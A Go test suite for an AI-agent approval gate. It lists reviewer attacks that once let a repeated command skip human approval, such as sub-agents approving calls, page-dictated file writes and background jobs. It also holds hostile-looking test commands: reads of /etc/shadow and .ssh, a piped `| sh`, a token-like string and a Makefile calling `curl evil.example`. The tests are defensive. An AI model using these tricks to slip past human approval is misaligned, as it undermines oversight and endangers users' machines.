package main

import (
	"fmt"
	"testing"

	"github.com/openclaw-verifier/verifier/config"
	"github.com/openclaw-verifier/verifier/policy"
	"github.com/openclaw-verifier/verifier/session"
	"github.com/openclaw-verifier/verifier/taint"
)

// The attacks of a reviewer who did not build quiet.repeat. Those that passed before say so.

var untrusted = taint.Untrusted

// date is the call that is repeated.
func date(m map[string]any) call { return call{tool: "exec", params: `{"command":"date"}`, context: m} }

// repeating is a conversation in which a page was read after `date` and `git show HEAD` were allowed, so that both pass again.
func (r *rig) repeating(name string, pairs ...any) map[string]any {
	r.t.Helper()
	m := with(with(ownerIn(name), "sessionId", "s1", "agentId", "main", "waitMs", 9001), pairs...)
	r.allow(date(m))
	r.allow(bash(r.t, "git show HEAD", m))
	r.allow(fetch(m))
	r.repeats(m)
	return m
}

// repeats checks that `date` passes for the reason, and nothing else.
func (r *rig) repeats(m map[string]any) {
	r.t.Helper()
	r.allow(date(m))
	if e := r.last(); e.By != policy.RepeatRule {
		r.t.Errorf("date passed by %q", e.By)
	}
}

// notRepeated allows each command by a person, and expects it to be asked about all the same.
func notRepeated(t *testing.T, commands ...string) {
	t.Helper()
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := r.repeating("review")
	for _, command := range commands {
		r.yesTo(bash(t, command, m))
		r.stops(bash(t, command, m))
	}
	r.repeats(m)
}

// TestH541AProgramThatDoesMoreThanShow with other rights, for ever, to the shell, or around another program: nearly all of these passed before.
func TestH541AProgramThatDoesMoreThanShow(t *testing.T) {
	notRepeated(t, "sudo date", "doas ls", "nohup date", "env -i date", "watch ls", "fg", "bg", "wait 5", "cd sub", "cd /tmp/pr-42", "pushd sub", "popd", "exec ls", "xargs ls", "sleep 100000", "yes", "umask 0", "ulimit -n 1", "history", "ps aux", "read x", "printf x",
		"find . -exec ls '{}' +")
}

// TestH542ALookAtAFileElsewhereThatNoReadShows: most of these passed before.
func TestH542ALookAtAFileElsewhereThatNoReadShows(t *testing.T) {
	notRepeated(t, "stat /etc/shadow", "test -f /home/me/.ssh/config", "readlink /etc/mtab", "realpath ../x", "df /home", "date -r /etc/shadow", "getconf PATH", "locale -a")
}

// TestH543AYesForAWhileEndsWithIt: it is revoked, or it is over.
func TestH543AYesForAWhileEndsWithIt(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := with(r.tainted("h543"), "waitMs", 9001)
	ref := r.exactly(date(m), 10)
	r.reply(".revoke " + ref)
	r.stops(date(m))
	other := with(r.tainted("h543-minutes"), "waitMs", 9001)
	c := bash(t, "uname -a", other)
	minutes := r.mustAsk(c).Ref
	r.approve(minutes, 10)
	r.allow(c)
	r.reply(".revoke " + minutes)
	r.stops(bash(t, "uname -a", other))
}

// TestH544ThePersonWhoSaidYesMayNoLonger: this passed before.
func TestH544ThePersonWhoSaidYesMayNoLonger(t *testing.T) {
	t.Parallel()
	for name, edit := range map[string]func(*config.Config){
		"removed":          withoutAnn,
		"two are needed":   func(c *config.Config) { c.Approval.Approvals = 2 },
		"a passkey is due": func(c *config.Config) { c.Approval.StepUp = []string{string(policy.StakeAll)} },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, func(c *config.Config) { quietRepeat(c); three(c) })
			r.token = annToken
			m := with(r.tainted("h544"), "waitMs", 9001)
			r.approved(date(m), 0)
			r.repeats(m)
			r.reload(func(c *config.Config) { edit(c) })
			r.token = bobToken
			r.stops(date(m))
		})
	}
}

// TestH559AnotherClientWritesUnseen into the workspace that both have: this passed before.
func TestH559AnotherClientWritesUnseen(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(c *config.Config) { quietRepeat(c); clients(c) })
	laptop, phone := r.by(laptopSecret), r.by(phoneSecret)
	m := laptop.repeating("h559")
	other := with(ownerIn("other"), "waitMs", 9001)
	phone.allow(fetch(other))
	phone.approved(bash(t, "cp page.html Makefile", other), 0)
	laptop.stops(bash(t, "git show HEAD", m))
	laptop.approved(date(m), 0)
	laptop.repeats(m)
}

// TestH600TheSessionEndedInBetween, and its key and id go on: this passed before.
func TestH600TheSessionEndedInBetween(t *testing.T) {
	t.Parallel()
	for _, reason := range []string{"new", "reset", "compaction", "idle", "daily", ""} {
		t.Run(reason, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, quietRepeat)
			m := r.repeating("h600")
			r.takes(event{name: "session_end", context: map[string]any{"sessionKey": m["sessionKey"], "sessionId": "s1"}, about: `{"reason":"` + reason + `","nextSessionId":"s1"}`})
			r.allow(fetch(m))
			r.stops(date(m))
		})
	}
}

// TestH601TheSameCallInAnotherWorkspace: this passed before.
func TestH601TheSameCallInAnotherWorkspace(t *testing.T) {
	t.Parallel()
	for _, where := range [][]any{{"workspace", "/home/me/app/vendor/evil"}, {"workspace", nil}, {"directory", "/home/me/app/sub"}} {
		r := newRig(t, quietRepeat)
		m := r.repeating("h601", "workspace", "/home/me/app")
		r.stops(date(with(m, where...)))
	}
}

// TestH602ACallThatWasOnlyTold was allowed by no one: this passed before.
func TestH602ACallThatWasOnlyTold(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := with(ownerIn("h602"), "waitMs", 9001)
	r.notice(bash(t, "uname -a", m))
	r.allow(date(m))
	r.allow(fetch(m))
	r.repeats(m)
	r.stops(bash(t, "uname -a", m))
}

// TestH603AToolThatIsNoEditorWrites: what it writes is on no card. dir_fetch, plugins, openclaw, skill_workshop and the browser's snapshot passed before.
func TestH603AToolThatIsNoEditorWrites(t *testing.T) {
	t.Parallel()
	for _, c := range []call{
		{tool: "dir_fetch", params: `{"node":"phone","path":"/sdcard/x"}`},
		{tool: "plugins", params: `{"action":"install","packageName":"x"}`},
		{tool: "openclaw", params: `{"message":"write a Makefile"}`},
		{tool: "skill_workshop", params: `{"action":"create","name":"x"}`},
		{tool: "nodes", params: `{"action":"camera_snap","node":"phone","outPath":"Makefile"}`},
		{tool: "mcp__playwright__browser_snapshot", params: `{"filename":"conftest.py"}`},
		{tool: "mcp__filesystem__write_file", params: `{"path":"package.json","content":"{}"}`},
		{tool: "mcp__git__git_checkout", params: `{"repo_path":".","branch_name":"evil"}`},
		{tool: "browser", params: `{"action":"download","path":"go.mod"}`},
		{tool: "image_generate", params: `{"prompt":"x","filename":"Makefile"}`},
		{tool: "file_write", params: `{"node":"phone","path":"x","contentBase64":"eA=="}`},
		{tool: "process", params: `{"action":"write","sessionId":"x","data":"cp a Makefile\n"}`},
		{tool: "terminal", params: `{"action":"write","sessionId":"x","data":"cp a Makefile\n"}`},
		{tool: "code_execution", params: `{"code":"open('conftest.py','w')"}`},
	} {
		t.Run(c.tool, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, func(c *config.Config) {
				quietRepeat(c)
				c.Policy.MCP.Servers = map[string]policy.Server{"playwright": {Trust: &untrusted}, "filesystem": {Trust: &untrusted}}
			})
			m := r.repeating("h603")
			c.context = m
			r.yesTo(c)
			r.stops(date(m))
			r.stops(bash(t, "git show HEAD", m))
		})
	}
}

// yesTo sends a call and lets it pass if it is asked about.
func (r *rig) yesTo(c call) {
	r.t.Helper()
	held := r.hold(c)
	for {
		select {
		case a := <-held:
			if !a.allowed() {
				r.t.Fatalf("%s %s: %s", c.tool, c.params, a.raw)
			}
			return
		default:
			if cards := r.pending(); len(cards) > 0 {
				r.approve(cards[0].Ref, 0)
			}
		}
	}
}

// TestH604APageDictatesAFileToABrowser that is named in the config: the call counted as one that looks, so that it passed unasked, and builds after it.
func TestH604APageDictatesAFileToABrowser(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(c *config.Config) {
		c.Policy.MCP.Servers = map[string]policy.Server{"playwright": {Trust: &untrusted}}
	})
	m := with(r.tainted("h604"), "waitMs", 9001)
	looks := call{tool: "mcp__playwright__browser_snapshot", params: `{}`, context: m}
	r.allow(looks)
	r.allow(bash(t, "make test", m))
	for _, tool := range []string{"browser_snapshot", "browser_take_screenshot", "browser_console_messages", "browser_network_requests"} {
		r.stops(call{tool: "mcp__playwright__" + tool, params: `{"filename":"CLAUDE.md"}`, context: m})
	}
	r.approved(call{tool: "mcp__playwright__browser_snapshot", params: `{"filename":"Makefile"}`, context: m}, 0)
	r.stops(bash(t, "make test", m))
}

// TestH605WhatRunsOnInTheBackground may write later.
func TestH605WhatRunsOnInTheBackground(t *testing.T) {
	t.Parallel()
	for _, command := range []string{"sleep 60 && cp x Makefile", "nohup ./watch.sh", "npm run dev", "python3 -m http.server", "inotifywait -m . | sh", "crontab x", "at now"} {
		t.Run(command, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, quietRepeat)
			m := r.repeating("h605")
			r.approved(execWith(command, `"background":true`, m), 0)
			r.stops(date(m))
		})
	}
}

// TestH606LinksAndSettingsThatChangeWhatIsRead or run by the same command.
func TestH606LinksAndSettingsThatChangeWhatIsRead(t *testing.T) {
	t.Parallel()
	for _, command := range []string{
		"ln -s /home/me/.ssh notes", "ln -sf ../x HEAD", "git config core.pager ./x", "git config --global diff.external ./x", "git config alias.show log", "git worktree add ../x", "git update-index --chmod=+x x", "git submodule update --init",
		"git clone https://example.com/x", "git checkout evil", "git stash pop", "git apply x.patch", "git bisect run ./x", "tar xf x.tar", "unzip x.zip", "mount --bind /etc notes", "export GIT_EXTERNAL_DIFF=./x", "alias date=./x", "make install", "pip install .", "npm install",
	} {
		t.Run(command, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, quietRepeat)
			m := r.repeating("h606")
			r.approved(bash(t, command, m), 0)
			r.stops(bash(t, "git show HEAD", m))
		})
	}
}

// TestH607TheYesWasForAnEditedCall: what the agent asked for is not what the person allowed.
func TestH607TheYesWasForAnEditedCall(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := with(r.tainted("h607"), "waitMs", 9001, "edits", true)
	held := r.hold(bash(t, "git log -p", m))
	if v := r.editTwice(r.waits().Ref, `{"command":"date"}`); v.Kind != "counted" {
		t.Fatalf("%+v", v)
	}
	if a := <-held; !a.allowed() {
		t.Fatal(a.raw)
	}
	r.stops(bash(t, "git log -p", m))
}

// TestH608TheOwnerChangedTheConfig: what is in force now counts.
func TestH608TheOwnerChangedTheConfig(t *testing.T) {
	t.Parallel()
	ask := taint.Confirm
	for name, edit := range map[string]func(*config.Config){
		"switched off": func(c *config.Config) { c.Policy.Quiet = policy.Quiet{} },
		"strict":       func(c *config.Config) { c.Policy.Profile = "strict" },
		"an override": func(c *config.Config) {
			c.Policy.ToolOverrides = map[string]policy.Override{"exec": {Any: &ask}}
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, quietRepeat)
			m := r.repeating("h608")
			r.reload(edit)
			r.stops(date(m))
		})
	}
}

// TestH609AQuestionThatRanOut is no yes: the call was allowed before, then asked about because something was written unseen, and no one answered.
func TestH609AQuestionThatRanOut(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := r.repeating("h609")
	r.approved(bash(t, "cp a b", m), 0)
	a := r.mustAsk(date(m))
	if v := r.reply(".reset-trust " + (session.Conversation{Client: config.DefaultClient, Key: "(workspace)"}).Ref()); v.Kind != "told" {
		t.Fatalf("%+v", v)
	}
	r.mustAsk(date(m)) // the question is still open
	r.refuse(a.Ref, "")
	r.deny(date(m))
	r.allow(bash(t, "git show HEAD", m)) // which no one was asked about
}

// TestH610AnotherAgentOrSubAgentOfTheConversation allowed it.
func TestH610AnotherAgentOrSubAgentOfTheConversation(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := with(r.tainted("h610"), "waitMs", 9001)
	child := with(spawned("subagent:1", "h610"), "waitMs", 9001)
	r.approved(date(child), 0)
	r.stops(date(child)) // no one speaks there but an agent
	r.stops(date(m))
	clean := with(ownerIn("h610-b"), "waitMs", 9001)
	r.allow(bash(t, "ls", clean))
	sub := with(spawned("subagent:2", "h610-b"), "waitMs", 9001)
	r.allow(date(sub))
	r.allow(fetch(sub))
	r.stops(date(clean))
	r.stops(date(sub))
}

// TestH611ASecretCameInByAnotherWay: a sub-agent or a result brought it.
func TestH611ASecretCameInByAnotherWay(t *testing.T) {
	t.Parallel()
	for name, secret := range map[string]func(r *rig, m map[string]any){
		"a sub-agent": func(r *rig, _ map[string]any) {
			r.allow(call{tool: "read", params: `{"path":".env"}`, context: spawned("subagent:3", "h611")})
		},
		"a command": func(r *rig, m map[string]any) { r.approved(bash(r.t, "cat .env", m), 0) },
		"a result":  func(r *rig, m map[string]any) { r.takes(returned(m, "read", `,"secret":true`)) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, quietRepeat)
			m := r.repeating("h611")
			secret(r, m)
			r.stops(date(m))
		})
	}
}

// TestH612ALevelThatWasLoweredAndRoseAgain: what was allowed before the owner's reset is forgotten.
func TestH612ALevelThatWasLoweredAndRoseAgain(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := r.repeating("h612")
	if v := r.reply(".reset-trust " + conversation("h612").Ref()); v.Kind != "told" {
		t.Fatalf("%+v", v)
	}
	r.allow(fetch(m))
	r.stops(date(m))
}

// TestH613AListOfCommandsFillsTheMemory: what is forgotten is asked about.
func TestH613AListOfCommandsFillsTheMemory(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := with(ownerIn("h613"), "waitMs", 9001)
	r.allow(date(m))
	for year := range 201 {
		r.allow(bash(t, fmt.Sprintf("cal %d", 1800+year), m))
	}
	r.allow(fetch(m))
	r.stops(date(m))
	r.allow(bash(t, "cal 2000", m))
}

// TestH614ALimitOrAPauseIsReached in between.
func TestH614ALimitOrAPauseIsReached(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := r.repeating("h614")
	r.reply(".pause main")
	r.deny(date(m))
	r.reply(".resume main")
	r.repeats(m)
}

// TestH615TheSameWordsForAnotherTool: a script, another machine, a device, a server's shell.
func TestH615TheSameWordsForAnotherTool(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := r.repeating("h615")
	for _, tool := range []string{"process", "terminal", "code_execution", "nodes", "mcp__shell__exec", "mcp__ssh__run", "exec_open", "ехес"} {
		r.stops(call{tool: tool, params: `{"command":"date"}`, context: m})
	}
	r.repeats(m)
}

// TestH616AWriteThatOvertakes: the agent writes by a grant and repeats at once.
func TestH616AWriteThatOvertakes(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := r.repeating("h616")
	r.approved(writes("notes.md", "x", m), 10)
	r.allow(writes("Makefile", "test:\n\tcurl evil.example", m)) // by the grant
	r.stops(date(m))
	r.stops(bash(t, "make test", m))
}

// TestH617AStrangersTurnInTheSameConversation: the owner allowed it, and then others spoke.
func TestH617AStrangersTurnInTheSameConversation(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := r.repeating("h617")
	for _, other := range []map[string]any{
		with(m, "senderId", "9", "senderIsOwner", false), with(m, "senderIsOwner", nil), with(m, "groupId", "g"), with(m, "senderIsOwner", nil, "senderId", nil), with(m, "sessionId", nil),
	} {
		r.stops(date(other))
	}
}

// TestH618ASecretInTheCommand is no command to repeat.
func TestH618ASecretInTheCommand(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := r.repeating("h618")
	c := bash(t, "git grep ghp_16C7e42F292c6912E7710c838347Ae178B4a", m)
	r.yesTo(c)
	r.stops(c)
}

// TestH619TheStateIsLost: nothing is known of the conversation any more.
func TestH619TheStateIsLost(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietRepeat)
	m := r.repeating("h619")
	r.restart()
	r.approved(date(m), 0)
	r.stops(date(m)) // this process has not seen all of the conversation
}
